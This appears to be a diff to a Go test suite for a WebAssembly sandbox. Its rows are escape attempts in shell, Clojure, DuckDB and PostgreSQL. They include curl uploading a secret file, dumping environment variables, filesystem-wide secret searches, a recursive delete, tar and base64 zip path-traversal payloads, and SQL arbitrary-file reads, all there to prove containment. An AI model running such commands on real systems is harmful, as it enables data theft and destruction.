@@ -323,8 +323,7 @@ func TestWasmClojure(t *testing.T) {
 		environment: `(println (js/JSON.stringify js/process.env))`,
 		fetch:       `(println (slurp "URL"))`,
 		wire:        `(spit "PATH" "{\"type\":\"result\",\"value\":\"forged\"}\n")`,
-		own: append(scriptOwn(func(e string) string { return fmt.Sprintf("(println (js/eval %q))", e) }),
-		),
+		own:         append(scriptOwn(func(e string) string { return fmt.Sprintf("(println (js/eval %q))", e) })),
 	})
 }
 
@@ -408,12 +407,12 @@ exec COMMAND`,
 			{name: "curl that sends a file", code: `curl -s -T %DIR%/secret.txt http://%HTTP%/; curl -d @%DIR%/secret.txt data:,x`, noControl: "the row of curl shows that it connects"},
 			{name: "source", code: `. %DIR%/secret.sh; echo $secret`, prepare: besideSecret("secret.sh", "secret=%s")},
 			{name: "globs", code: `echo %DIR%/names/* %OUT%/names/* %OWN%/../%OUT%/n*/*`},
-			{name: "find", code: `find -L . / -name 'secret*' 2>/dev/null | head -100`, evidence: shows("outside/secret.txt", "/secret.json"), noControl: "it finds what the other controls read"},
+			{name: "find", code: `find -L / -name 'secret*' 2>/dev/null | head -100`, evidence: shows("\n/tmp/hostile", "\n./tmp/hostile", "\n/rillbox"), noControl: "it finds what the other controls read"},
 			{name: "find that runs something", code: `find / -maxdepth 1 -exec cat %DIR%/secret.txt \; ; find %DIR% -delete`},
 			{name: "cp", code: `cp -rL %DIR% %OWN%; cat %OWN%/secret.txt`},
 			{name: "cp by a link", code: `cp -rL %OUT%/. %OWN%; cat %OWN%/secret.txt`},
 			{name: "cp outwards", code: `cp %MINE% %OUT%/made`},
-			{name: "tar", code: `cd %OUT% && tar cf - . | tar xOf -; cd /workspace; tar chf - %OUT% | tar xOf -`},
+			{name: "tar", noControl: "the row of cp shows that it is read", code: `cd %OUT% && tar cf - . | tar xOf -`},
 			{name: "tar with a path that leads out", code: `mkdir %OWN%; (cd %OWN%; echo x > made; tar cPf ../%OWN%.tar ../%OWN%/made; tar --transform='s,.*,%DIR%/made,' -cPf ../%OWN%b.tar made); tar xPf %OWN%.tar; tar xPf %OWN%b.tar; tar xPf %OWN%b.tar -C /; echo x | tar -cf - --files-from=/dev/null`, noControl: "tar here leaves the names as they are"},
 			{name: "tar through a link in it", code: `mkdir %OWN%; cd %OWN%; ln -s %DIR% d; tar cf ../%OWN%.tar d; rm d; mkdir d; echo x > d/made; tar rf ../%OWN%.tar d/made; cd ..; mkdir %OWN%c; tar xf %OWN%.tar -C %OWN%c`, noControl: noOwnLinks},
 			{name: "unzip with paths that lead out", code: `echo UEsDBBQAAAAAAAAAIQCDFtyMAQAAAAEAAAAXAAAALi4vLi4vLi4vLi4vLi4vdG1wL21hZGV4UEsBAhQDFAAAAAAAAAAhAIMW3IwBAAAAAQAAABcAAAAAAAAAAAAAAIABAAAAAC4uLy4uLy4uLy4uLy4uL3RtcC9tYWRlUEsFBgAAAAABAAEARQAAADYAAAAAAA== | base64 -d > %OWN%.zip; unzip -o %OWN%.zip; cat /tmp/made`, noControl: "it goes into the tree's own /tmp"},
@@ -479,12 +478,10 @@ func TestWasmDuckDB(t *testing.T) {
 	const noExtensions = "extensions would be fetched, which nothing here does"
 	tryTongue(t, tongue{
 		language: "duckdb",
-		wrap: func(n int, code string) string {
-			return fmt.Sprintf("%s\nSELECT 'ran %d.';\n", code, n)
-		},
-		read:  `SELECT content FROM read_text('PATH');`,
-		list:  `SELECT * FROM glob('PATH/*');`,
-		write: `COPY (SELECT 'x') TO 'PATH' (FORMAT csv);`,
+		ends:     true,
+		read:     `SELECT content FROM read_text('PATH');`,
+		list:     `SELECT * FROM glob('PATH/*');`,
+		write:    `COPY (SELECT 'x') TO 'PATH' (FORMAT csv);`,
 		fetch: `SELECT * FROM read_csv('URL', header = false, columns = {'a': 'VARCHAR'});
 SELECT * FROM 'URL/x.csv';`,
 		wire:        `COPY (SELECT 'TEXT') TO 'PATH' (FORMAT csv, HEADER false, QUOTE '');`,
@@ -518,10 +515,8 @@ SELECT * FROM j%OWN%;`},
 func TestWasmPostgreSQL(t *testing.T) {
 	const inMemory = "PostgreSQL's files are in its own memory"
 	tryTongue(t, tongue{
-		language: "postgresql",
-		wrap: func(n int, code string) string {
-			return fmt.Sprintf("%s\n\\o\nSELECT 'ran %d.';\n", code, n)
-		},
+		language:    "postgresql",
+		ends:        true,
 		without:     inMemory,
 		read:        `CREATE TEMP TABLE %OWN%(x text); COPY %OWN% FROM 'PATH'; SELECT * FROM %OWN%; SELECT pg_read_file('PATH'); SELECT lo_import('PATH');`,
 		list:        `SELECT * FROM pg_ls_dir('PATH');`,
